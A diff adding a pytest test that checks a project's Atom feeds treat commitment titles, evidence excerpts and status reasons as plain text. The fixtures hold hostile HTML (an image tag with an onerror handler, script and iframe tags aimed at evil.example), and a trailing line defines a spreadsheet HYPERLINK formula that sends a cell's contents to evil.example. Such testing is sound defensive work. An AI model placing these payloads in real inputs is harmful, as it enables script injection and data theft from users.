@@ -6,6 +6,7 @@ import json
 import zipfile
 from datetime import date
 from decimal import Decimal
+from xml.etree import ElementTree
 
 import feedparser
 import pytest
@@ -128,6 +129,43 @@ def test_whole_dataset_zip_keeps_suppressed_cells_empty_never_zero(client, demo)
     data = json.loads(archive.read("data.json"))
     assert len(data["commitments"]) == 33
     assert all(c["value"] is None for c in data["figure_cells"] if c["kind"] in ("suppressed", "nil"))
+
+
+IMAGE = '<img src="https://evil.example/pixel.png" onerror="alert(1)">'
+ATOM = "{http://www.w3.org/2005/Atom}"
+
+
+def test_feed_summaries_are_plain_text_so_hostile_html_loads_and_runs_nothing(client, db):
+    commitment = CommitmentFactory(title=f"Panels {IMAGE}")
+    EvidenceFactory(
+        commitment=commitment,
+        excerpt=f"IPP Delivery Plans {IMAGE}",
+        state=Evidence.State.CONFIRMED,
+        reviewed_at=timezone.now(),
+    )
+    record_status_change(
+        commitment,
+        to="delayed",
+        reason="<script>alert(1)</script><iframe src=//evil.example>",
+        effective_on=date(2025, 1, 1),
+    )
+    for url in [
+        "/feeds/updates.atom",
+        f"/themes/{commitment.theme.slug}/feed.atom",
+        f"/commitments/{commitment.slug}/feed.atom",
+    ]:
+        root = ElementTree.fromstring(client.get(url).content)
+        elements = list(root.iter())
+        # Nothing but Atom's own elements, and no attribute that runs or loads anything.
+        assert all(element.tag.startswith(ATOM) for element in elements), url
+        assert not [name for element in elements for name in element.attrib if name.lower().startswith("on")]
+        summaries = root.findall(f"{ATOM}entry/{ATOM}summary")
+        assert len(summaries) == 2
+        # Text constructs: a feed reader shows the markup as characters, never as HTML.
+        for element in elements:
+            if element.tag in {f"{ATOM}title", f"{ATOM}subtitle", f"{ATOM}summary", f"{ATOM}content"}:
+                assert element.get("type", "text") == "text", (url, element.tag)
+        assert any(IMAGE in summary.text for summary in summaries)
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"IPP")'
